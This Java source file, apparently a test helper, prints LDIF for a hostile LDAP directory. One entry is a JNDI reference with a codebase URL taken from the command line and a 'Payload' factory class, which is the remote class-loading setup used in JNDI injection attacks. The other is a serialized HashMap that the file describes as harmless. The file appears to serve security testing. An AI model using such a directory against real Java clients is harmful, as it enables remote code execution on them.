// SPDX-License-Identifier: GPL-2.0-or-later
import java.io.ByteArrayOutputStream;
import java.io.ObjectOutputStream;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;

/** Prints the attacker's directory as LDIF: a reference to a class at args[0], and a (harmless) serialized object. */
public class EvilDirectory {
    public static void main(String[] args) throws Exception {
        System.out.print("""
                dn: dc=evil
                objectClass: dcObject
                objectClass: organization
                dc: evil
                o: recorded for a test

                dn: cn=ref,dc=evil
                objectClass: javaContainer
                objectClass: javaNamingReference
                cn: ref
                javaClassName: Payload
                javaCodeBase: %s
                javaFactory: Payload

                dn: cn=ser,dc=evil
                objectClass: javaContainer
                objectClass: javaSerializedObject
                cn: ser
                javaClassName: java.util.HashMap
                javaSerializedData:: %s
                """.formatted(args[0], serialized()));
    }

    private static String serialized() throws Exception {
        HashMap<String, Object> map = new HashMap<>();
        map.put("harmless", new ArrayList<>(List.of("a", 42)));
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(map);
        }
        return Base64.getEncoder().encodeToString(bytes.toByteArray());
    }
}
